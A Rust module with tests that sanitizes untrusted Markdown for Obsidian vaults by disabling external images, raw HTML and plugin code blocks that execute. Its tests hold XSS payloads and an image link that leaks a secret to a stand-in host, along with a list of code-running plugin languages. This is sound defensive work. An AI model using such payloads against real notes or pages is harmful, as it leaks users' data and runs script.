//! Markdown written by others, made fit for a vault or a folder: nothing in it is fetched or run by
//! whatever shows it. Its words stay as they are. Must not know who wrote it.

use std::ops::Range;

use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag};

/// Languages of code blocks that plugins of Obsidian run instead of showing them.
const RUN: [&str; 5] = ["dataviewjs", "js-engine", "templater", "custom-frames", "meta-bind-js-view"];
/// What a span of code begins with that such a plugin runs.
const RUN_SPAN: &str = "$=";

/// The same text in which pictures from outside are links, HTML is text, and code is only shown.
/// Applied again it changes nothing.
pub fn harmless(text: &str) -> String {
    let mut edits: Vec<(Range<usize>, &str)> = Vec::new();
    let options = Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES | Options::ENABLE_STRIKETHROUGH;
    for (event, range) in Parser::new_ext(text, options).into_offset_iter() {
        match event {
            Event::Start(Tag::Image { dest_url, .. })
                if is_outside(&dest_url) && text[range.clone()].starts_with('!') =>
            {
                edits.push((range.start..range.start + 1, ""));
            }
            Event::Html(_) | Event::InlineHtml(_) => {
                let tags = text[range.clone()].match_indices('<').map(|(at, _)| range.start + at);
                edits.extend(tags.map(|at| (at..at + 1, "&lt;")));
            }
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(language))) if is_run(&language) => {
                let line = text[range.clone()].find('\n').map_or(range.end, |at| range.start + at);
                if let Some(at) = text[range.start..line].find(&*language) {
                    edits.push((range.start + at..range.start + at + language.len(), "text"));
                }
            }
            Event::Code(code) if code.trim_start().starts_with(RUN_SPAN) => {
                if let Some(at) = text[range.clone()].find('=') {
                    edits.push((range.start + at..range.start + at, "\u{200b}"));
                }
            }
            _ => {}
        }
    }
    // Parts of a document can be told twice, as a footnote that is named again.
    edits.sort_by_key(|(range, _)| (range.start, range.end));
    edits.dedup();
    let (mut made, mut from) = (String::with_capacity(text.len()), 0);
    for (range, new) in edits {
        if range.start < from {
            continue;
        }
        made.push_str(&text[from..range.start]);
        made.push_str(new);
        from = range.end;
    }
    made.push_str(&text[from..]);
    made
}

/// Whether an address leads out of the vault, or says nothing about where it leads.
fn is_outside(address: &str) -> bool {
    let address = address.trim_start().to_ascii_lowercase();
    address.starts_with("//")
        || address.starts_with("\\\\")
        || address.split_once(':').is_some_and(|(scheme, _)| {
            scheme.starts_with(|letter: char| letter.is_ascii_alphabetic())
                && scheme.chars().all(|letter| letter.is_ascii_alphanumeric() || "+-.".contains(letter))
        })
}

fn is_run(language: &str) -> bool {
    let language = language.split_whitespace().next().unwrap_or_default().to_ascii_lowercase();
    RUN.contains(&language.as_str()) || language.starts_with("run-")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_would_be_fetched_or_run_is_only_shown() {
        for (text, made) in [
            ("![](https://x.example/?d=SECRET)", "[](https://x.example/?d=SECRET)"),
            ("a ![b][c] d\n\n[c]: http://x.example/p.png", "a [b][c] d\n\n[c]: http://x.example/p.png"),
            ("![x](//x.example/p)", "[x](//x.example/p)"),
            ("![x](data:image/svg+xml;base64,AA)", "[x](data:image/svg+xml;base64,AA)"),
            ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
            ("a <b onclick=x>c</b>", "a &lt;b onclick=x>c&lt;/b>"),
            ("<script>\nalert(1)\n</script>\n", "&lt;script>\nalert(1)\n&lt;/script>\n"),
            ("```dataviewjs\ndv.pages()\n```", "```text\ndv.pages()\n```"),
            ("`$= dv.current()`", "`$\u{200b}= dv.current()`"),
        ] {
            assert_eq!(harmless(text), made);
            assert_eq!(harmless(made), made, "again");
        }
    }

    #[test]
    fn what_is_harmless_stays_as_it_is() {
        for text in [
            "# 見出し\n\n- [ ] 一つ [[ノート]] ![[図.png]]\n\n![図](assets/図.png) 1 < 2 `<b>` $x^2$\n",
            "```html\n<img src=https://x.example>\n```\n",
            "[x](https://x.example) <https://x.example> a && b\r\n\r\n| a | b |\n|---|---|\n| 1 | 2 |\n",
            "",
        ] {
            assert_eq!(harmless(text), text);
        }
    }
}
